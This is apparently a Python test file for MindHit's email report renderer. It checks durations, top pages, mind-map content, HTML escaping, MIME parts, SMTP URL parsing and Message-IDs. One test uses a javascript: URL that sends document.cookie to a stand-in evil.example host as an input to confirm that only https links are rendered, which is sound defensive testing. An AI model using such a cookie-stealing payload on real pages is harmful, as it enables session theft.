"""The report email shows the session's duration, its top pages and the mind map, safely."""

from __future__ import annotations

import re

import msgspec

from processors.report.mailer import build_message, parse_smtp_url, report_message_id
from processors.report.render import TOP_PAGES, render_report
from schema.derived import MindmapBuilt, MindmapNode, SessionClosed, SessionPage

START = 1_764_151_200_000  # 2025-11-26 10:00 UTC


def _session(pages: int = 3) -> tuple[SessionClosed, MindmapBuilt]:
    listed = [
        SessionPage(
            url_hash=f"h{i}",
            url=f"https://site{i}.example/page",
            title=f"Page {i}",
            domain=f"site{i}.example",
            dwell_ms=60_000 * (i + 1),
        )
        for i in range(pages)
    ]
    closed = SessionClosed(
        user_id="u1",
        session_id="s-42",
        started_ts=START,
        stopped_ts=START + 75 * 60_000,
        active_ms=sum(p.dwell_ms for p in listed),
        page_count=pages,
        domain_count=pages,
        pages=listed,
    )
    leaves = [
        MindmapNode(label=p.title, weight_ms=p.dwell_ms, url=p.url, url_hash=p.url_hash)
        for p in listed
    ]
    root = MindmapNode(
        label="Pizza & <Stars>",
        weight_ms=closed.active_ms,
        why="Two subjects.",
        children=[
            MindmapNode(label="Baking", weight_ms=closed.active_ms, why="Dough.", children=leaves)
        ],
    )
    return closed, MindmapBuilt(
        user_id="u1", session_id="s-42", root=root, provider="local", built_ts=START
    )


def test_report_shows_duration_top_pages_and_the_map() -> None:
    closed, built = _session()
    report = render_report(closed, built, public_url="https://mindhit.example/")
    assert report.subject == "Your session: Pizza & <Stars> · 6 min, 3 pages"
    assert "6 min" in report.html and "1 h 15 min" in report.html
    assert "Wed 26 Nov 2025, 10:00–11:15 UTC" in report.html
    order = [report.html.index(f">Page {i}</a>") for i in (2, 1, 0)]
    assert order == sorted(order)
    assert 'href="https://mindhit.example/sessions/s-42"' in report.html
    assert "Baking" in report.html and "Dough." in report.html
    assert "Page 2 <https://site2.example/page>" in report.text
    assert "Open in MindHit: https://mindhit.example/sessions/s-42" in report.text


def test_only_web_urls_become_links() -> None:
    closed, built = _session(pages=2)
    bad = "javascript:fetch('//evil.example/?'+document.cookie)"
    page = msgspec.structs.replace(closed.pages[0], url=bad, title="Click me")
    closed = msgspec.structs.replace(closed, pages=[page, closed.pages[1]])
    leaf = MindmapNode(label="Data page", weight_ms=1, url="data:text/html,<h1>x</h1>")
    branch = msgspec.structs.replace(
        built.root.children[0], children=[*built.root.children[0].children, leaf]
    )
    built = msgspec.structs.replace(
        built, root=msgspec.structs.replace(built.root, children=[branch])
    )
    report = render_report(closed, built, public_url="https://mindhit.example")
    hrefs = re.findall(r'href="([^"]*)"', report.html)
    assert hrefs and all(h.startswith("https://") for h in hrefs), hrefs
    assert "Click me" in report.html and "Data page" in report.html
    assert "<javascript:" not in report.text and "(not a web page: javascript:" in report.text


def test_page_titles_and_labels_are_escaped() -> None:
    closed, built = _session()
    report = render_report(closed, built, public_url="http://x")
    assert "<Stars>" not in report.html and "&lt;Stars&gt;" in report.html


def test_long_sessions_list_only_the_top_pages() -> None:
    closed, built = _session(pages=TOP_PAGES + 5)
    report = render_report(closed, built, public_url="http://x")
    table = report.html.split('id="top-pages"')[1].split("</table>")[0]
    assert table.count("<tr>") == TOP_PAGES
    assert f">Page {TOP_PAGES + 4}</a>" in table and ">Page 0</a>" not in table


def test_message_has_text_and_html_alternatives() -> None:
    closed, built = _session()
    report = render_report(closed, built, public_url="http://x")
    sender = "MindHit <r@x.example>"
    message_id = report_message_id(closed.session_id, built.built_ts, sender)
    message = build_message(report, sender=sender, recipient="ann@x.example", message_id=message_id)
    assert message["Message-ID"] == message_id
    assert message.get_content_type() == "multipart/alternative"
    assert [part.get_content_type() for part in message.iter_parts()] == ["text/plain", "text/html"]


def test_smtp_urls_parse_with_login_and_tls() -> None:
    starttls = parse_smtp_url("smtp://mail.example:2525")
    assert (starttls.host, starttls.port, starttls.tls, starttls.username) == (
        "mail.example",
        2525,
        "starttls",
        None,
    )
    plain = parse_smtp_url("smtp+insecure://relay.local")
    assert (plain.port, plain.tls, plain.implicit_tls) == (25, "none", False)
    secure = parse_smtp_url("smtps://ann%40x:p%3Ass@mail.example")
    assert (secure.port, secure.implicit_tls, secure.username, secure.password) == (
        465,
        True,
        "ann@x",
        "p:ss",
    )


def test_a_reports_message_id_is_the_same_for_every_send_and_names_no_session() -> None:
    closed, built = _session()
    sender = "MindHit <reports@mindhit.example>"
    first = report_message_id(closed.session_id, built.built_ts, sender)
    assert first == report_message_id(closed.session_id, built.built_ts, sender)
    assert first.startswith("<report.") and first.endswith("@mindhit.example>")
    assert closed.session_id not in first and closed.session_id.replace("-", "") not in first
    assert first != report_message_id(closed.session_id, built.built_ts + 1, sender)
    assert report_message_id(closed.session_id, 1, "no-address").endswith("@mindhit.invalid>")
